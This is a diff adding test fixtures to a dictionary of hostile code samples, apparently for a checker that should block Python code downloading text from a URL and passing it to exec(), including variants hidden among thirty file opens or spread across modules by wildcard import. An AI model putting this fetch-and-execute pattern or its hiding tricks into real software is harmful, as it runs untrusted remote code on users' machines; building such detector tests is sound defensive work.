@@ -37,6 +37,19 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "block",
             ("tools/net.py", 3),
         ),
+        "in a crowd of files": py(
+            "import requests\nt = [" + ", ".join(f"open('{n}')" for n in range(30)) + "]\n"
+            "t += [requests.get('https://a.invalid').text]\nexec(str(t))\n",
+            line=4,
+        ),
+        "all names of a file are imported": Sample(
+            {
+                "app.py": "from net import *\nexec(latest())\n",
+                "net.py": "import requests\ndef latest():\n    return requests.get('https://a.invalid').text\n",
+            },
+            "block",
+            ("app.py", 2),
+        ),
         "the sink lies in a helper file": Sample(
             {
                 "app.py": "import requests\nfrom tools import show\nshow(requests.get('https://a.invalid').text)\n",
